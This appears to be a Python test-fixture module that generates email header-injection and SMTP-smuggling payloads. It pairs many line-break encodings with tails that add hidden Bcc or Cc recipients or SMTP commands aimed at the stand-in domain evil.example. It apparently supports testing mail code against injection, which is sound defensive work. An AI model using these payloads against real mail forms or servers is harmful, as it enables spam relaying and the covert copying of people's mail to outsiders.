"""What people might type to smuggle headers or recipients into a mail."""

EVIL = "evil.example"
# What may pass for a line break, in Python, in mail programs, or after a conversion.
BREAKS = (
    "\r\n",
    "\n",
    "\r",
    "\r\n ",
    "\n\t",
    "\r\n\r\n",
    "\v",
    "\f",
    "\x1c",
    "\x1d",
    "\x1e",
    "\x85",
    "\u2028",
    "\u2029",
    "%0d%0a",
    "\\r\\n",
    # Of these, the low bytes are a line break.
    "\u560d\u560a",
    "\0\r\n",
    "=?utf-8?q?=0D=0A?=",
    "=0D=0A",
)
TAILS = (
    f"Bcc: third@{EVIL}",
    f"X-Evil: 1\r\nCc: third@{EVIL}",
    f".\r\nMAIL FROM:<third@{EVIL}>\r\nRCPT TO:<third@{EVIL}>\r\nDATA",
    f">\r\nRCPT TO:<third@{EVIL}>",
    f"> RCPT TO:<third@{EVIL}>",
    f", third@{EVIL}",
    f"; third@{EVIL}",
    f" <third@{EVIL}>",
)


def payloads(count):
    """Return so many, all different, every break and every tail early on."""
    pairs = len(BREAKS) * len(TAILS)
    made = []
    for n in range(count):
        gap, tail = BREAKS[n % len(BREAKS)], TAILS[n // len(BREAKS) % len(TAILS)]
        # A second round has them twice over.
        made.append((gap + tail) * (1 + n // pairs))
    return made
